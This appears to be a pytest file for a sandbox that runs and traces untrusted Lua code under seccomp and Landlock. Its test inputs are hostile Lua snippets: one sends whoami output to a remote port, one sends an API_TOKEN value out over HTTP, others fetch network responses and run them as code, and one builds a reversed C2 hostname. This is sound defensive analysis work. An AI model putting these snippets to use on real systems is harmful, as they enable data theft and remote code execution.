"""The cage runs Lua and tells what it did; without its lock it refuses. Everything here runs for real, in a locked child."""

from __future__ import annotations

import errno
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from perilune.analysis.lua import cage, identify
from perilune.analysis.lua.lexer import lex
from perilune.analysis.lua.locked import seccomp, system
from perilune.analysis.lua.run.spawn import Unavailable, Zygote
from perilune.model.lua import Dialect, Form, Identity, Outcome, Trace
from tests.conftest import CHECKOUT

READY, WHY = cage.available()
pytestmark = pytest.mark.skipif(not READY, reason=f"no cage here: {WHY}")


def identity(code: bytes) -> Identity:
    if known := identify.by_magic(code):
        return known
    dialect, sure, evidence = identify.dialect_of(lex(code.decode("latin-1")))
    return Identity(Form.SOURCE, dialect, sure, evidence)


def run(code: str | bytes, dialect: Dialect | None = None, **budget: float) -> Trace:
    data = code.encode() if isinstance(code, str) else code
    what = Identity(Form.SOURCE, dialect) if dialect else identity(data)
    return cage.run(data, what, name="notes.lua", budget=cage.Budget(**budget) if budget else None)  # type: ignore[arg-type]


def calls(found: Trace) -> list[tuple[str, ...]]:
    return [(one.name, *one.arguments) for one in found.events]


def test_calls_are_seen_and_answered() -> None:
    found = run(
        'local s = require("socket") local c = s.tcp() c:connect("192.0.2.1", 4444) c:send(io.popen("whoami"):read("*a"))'
    )
    assert (found.outcome, found.reason) == (Outcome.EXPLAINED, "it ran to its end")
    assert calls(found)[:4] == [
        ("require", "socket"),
        ("socket.tcp",),
        ("socket.tcp.connect", "192.0.2.1", "4444"),
        ("io.popen", "whoami"),
    ]
    assert found.events[-1].name == "socket.tcp.send" and found.events[-1].carries == ("process",)
    assert {"seccomp", "no new privileges"} <= set(found.isolation) and any(
        "Landlock" in one for one in found.isolation
    )


def test_loaded_code_is_kept_with_what_it_carries() -> None:
    found = run('local f = loadstring or load\nf("load(\\"os.execute([[id]])\\")()")()', Dialect.LUA54)
    assert [(one.depth, one.code) for one in found.chunks] == [
        (1, b'load("os.execute([[id]])")()'),
        (2, b"os.execute([[id]])"),
    ]
    assert ("os.execute", "id") in calls(found)


def test_the_answer_of_a_server_that_runs_as_code_is_marked() -> None:
    found = run('local body = require("socket.http").request("http://192.0.2.9/x") assert(load(body))()', Dialect.LUA54)
    assert [one.carries for one in found.chunks] == [("network",)]


def test_what_is_handed_over_is_called_later() -> None:
    found = run('PerformHttpRequest("http://192.0.2.9/", function(code, body) os.execute(body) end)', Dialect.CFXLUA)
    assert found.events[-1].name == "os.execute" and found.events[-1].carries == ("network",)


def test_a_global_that_is_missing_is_given_in_the_next_run() -> None:
    found = run('local w = widget w.exec("samdump")', Dialect.LUA51)
    assert [one.end for one in found.passes] == ["error", "returned"]
    assert found.passes[1].why == "with a stand-in for widget"
    assert calls(found) == [("widget.exec", "samdump")]


def test_strings_that_are_built_are_kept() -> None:
    found = run(
        'local t = {} for c in ("moc.elpmaxe.c2"):gmatch(".") do table.insert(t, 1, c) end return table.concat(t)'
    )
    assert "2c.example.com" in found.strings


def test_endless_waiting_is_told_from_endless_work() -> None:
    assert run("while true do require('socket').sleep(1) end").reason.startswith("it ran until it would wait for ever")
    assert run("while true do end", steps=1_000_000).outcome is Outcome.STALLED


def test_nothing_is_called_harmless() -> None:
    assert "clean" not in {str(one) for one in Outcome} and run("return 1").outcome is Outcome.EXPLAINED


@pytest.mark.parametrize("layer", ["landlock", "seccomp"])
def test_without_a_layer_it_refuses(layer: str) -> None:
    with pytest.raises(Unavailable, match=r"isolation unavailable: .*(Landlock lets|seccomp is not)"):
        Zygote((layer,))


@pytest.mark.parametrize("skip", [("namespaces",), ("user",), ("user", "namespaces")])
def test_namespaces_are_not_needed(skip: tuple[str, ...]) -> None:
    zygote = Zygote(skip)
    try:
        written = zygote.run("lua54", b'os.execute("id")', ["x", "1000000", "linux", "1", ""], 5, 1 << 20).written
        assert b'"os.execute","a":["id"]' in written
    finally:
        zygote.close()


_ON_A_LESSER_KERNEL = """
import sys
from perilune.analysis.lua import cage
from perilune.analysis.lua.locked import seccomp, system
from perilune.model.lua import Dialect, Form, Identity
system.prctl(38, 1)
seccomp.install(seccomp.refusing(system.machine(), (sys.argv[1],), int(sys.argv[2])))
found = cage.run(b'os.execute("id")', Identity(Form.SOURCE, Dialect.LUA54))
print(found.outcome, "|", found.reason, "|", len(found.events))
"""


@pytest.mark.parametrize("name", ["landlock_create_ruleset", "landlock_restrict_self", "seccomp"])
def test_on_a_kernel_without_a_layer_it_refuses(name: str) -> None:
    """The calls really fail there, as on a kernel that lacks them or where an administrator switched them off."""
    done = subprocess.run(
        [sys.executable, "-c", _ON_A_LESSER_KERNEL, name, str(errno.ENOSYS)],
        capture_output=True,
        text=True,
        cwd=CHECKOUT,
    )
    assert done.stdout.startswith("not executed | isolation unavailable: "), done.stdout + done.stderr
    assert done.stdout.rstrip().endswith("| 0")


def test_without_a_lua_it_says_how_to_get_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cage, "find_spec", lambda name: None)
    assert cage.available() == (False, cage.NO_RUNTIME)
    assert run("return 1").reason.startswith("no Lua to run it with is installed")


def test_on_another_system_it_refuses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("platform.system", lambda: "Darwin")
    with pytest.raises(Unavailable, match="isolation unavailable: there is no cage for Darwin"):
        Zygote()


def test_several_threads_and_forked_processes_share_nothing() -> None:
    with ThreadPoolExecutor(4) as pool:
        found = list(pool.map(lambda n: run(f"os.execute('{n}')"), range(12)))
    assert [calls(one) for one in found] == [[("os.execute", str(n))] for n in range(12)]
    script = (
        "import os\nfrom tests.analysis.lua.test_cage import run, calls\nrun('return 1')\npid = os.fork()\n"
        "print(calls(run(f'os.execute({pid == 0})')), flush=True)\nif pid: os.waitpid(pid, 0)"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=CHECKOUT)
    assert done.stdout.splitlines() == ["[('os.execute',)]"] * 2 and not done.stderr, done.stderr


def test_nothing_is_left_when_the_process_ends() -> None:
    script = (
        "from tests.analysis.lua.test_cage import run\nfrom perilune.analysis.lua import cage\nrun('return 1')\n"
        "import os, sys\nprint(cage._cage.get().pid, flush=True)\nos.kill(os.getpid(), 9) if len(sys.argv) > 1 else None"
    )
    for how in ([], ["killed"]):
        done = subprocess.run([sys.executable, "-c", script, *how], capture_output=True, text=True, cwd=CHECKOUT)
        pid = int(done.stdout)
        for _ in range(100):
            if not Path(f"/proc/{pid}").exists():
                break
            time.sleep(0.02)
        assert not Path(f"/proc/{pid}").exists()


@pytest.fixture
def zygote() -> Iterator[Zygote]:
    one = Zygote()
    yield one
    one.close()


def test_a_zygote_that_dies_is_an_answer(zygote: Zygote) -> None:
    os.kill(zygote.pid, 9)
    with pytest.raises(Unavailable, match="the cage broke down"):
        zygote.run("lua54", b"return 1", ["x", "1000", "linux", "1", ""], 2, 1 << 20)


def test_a_cage_that_was_killed_is_built_anew() -> None:
    run("return 1")
    os.kill(cage._cage.get().pid, 9)
    assert run("os.execute('id')").outcome is Outcome.EXPLAINED


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become somebody else")
def test_an_ordinary_user_can_use_it() -> None:
    """As user 1001; one right is kept so that this user can read the interpreter, wherever that is installed."""
    script = "from tests.analysis.lua.test_cage import run; f = run('os.execute([[id]])'); print(f.outcome, f.events[0].name, f.isolation)"
    rights = ["--inh-caps", "+dac_read_search", "--ambient-caps", "+dac_read_search"]
    done = subprocess.run(
        ["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", *rights, sys.executable, "-c", script],
        capture_output=True,
        text=True,
        cwd=CHECKOUT,
        env={"PATH": "/usr/bin:/bin", "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert done.stdout.startswith("explained os.execute"), done.stdout + done.stderr
    assert "ordinary user" not in done.stdout and "seccomp" in done.stdout


def _answer(steps: list[seccomp.Step], data: dict[int, int]) -> int:
    """What the kernel's machine would answer: loads, compares, jumps."""
    at = value = 0
    while True:
        code, if_true, if_false, operand = steps[at]
        at += 1
        if code == 0x06:
            return operand
        if code == 0x20:
            value = data.get(operand, 0)
        else:
            holds = {0x15: value == operand, 0x35: value >= operand, 0x45: bool(value & operand)}[code]
            at += if_true if holds else if_false


@pytest.mark.parametrize("name", system._MACHINES)
def test_the_filter_lets_seventeen_calls_pass(name: str) -> None:
    """On both machines, for every number: some pass, some are refused, all others end the process."""
    one = system._MACHINES[name]
    steps = seccomp.program(one)
    numbers = {number: call for call, number in one.numbers.items()}

    def answer(number: int, *arguments: int, arch: int = one.audit) -> int:
        places = {16 + 8 * at: argument for at, argument in enumerate(arguments)}
        return _answer(steps, {0: number, 4: arch, **places})

    passing = {
        numbers.get(n, str(n)) for n in range(1024) if answer(n, 1, 0, 0, seccomp.MAP_ANONYMOUS) == seccomp.ALLOW
    }
    assert passing == {*seccomp._ALLOWED, "write", "mprotect", "mmap"} and len(passing) == 17
    refused = {numbers[n] for n in range(1024) if answer(n, 0, 0, 7) & 0xFFFF0000 == seccomp.ERRNO}
    assert refused == {*seccomp._REFUSED, "write", "mprotect", "mmap"}
    assert all(answer(n, arch=one.audit ^ 1) == seccomp.KILL for n in range(1024))
    assert answer(one.numbers["mmap"], 0, 0, 3, 1) == seccomp.KILL  # a file
    if one.other_abi:
        assert all(answer(one.other_abi + n, 1) == seccomp.KILL for n in range(1024))


def test_what_is_put_into_a_table_is_seen() -> None:
    found = run('request{Url = "http://192.0.2.7/", Body = json.encode({ t = os.getenv("API_TOKEN") })}', Dialect.LUA54)
    assert found.events[-1].name == "request" and found.events[-1].carries == ("environment",)
    assert 'Url = "http://192.0.2.7/"' in found.events[-1].arguments[0]


def test_an_answer_may_come_in_pieces() -> None:
    found = run(
        'local t = {} require("socket.http").request{ url = "http://192.0.2.7/", sink = require("ltn12").sink.table(t) } '
        "loadstring(table.concat(t))()",
        Dialect.LUA51,
    )
    assert [one.carries for one in found.chunks] == [("network",)]
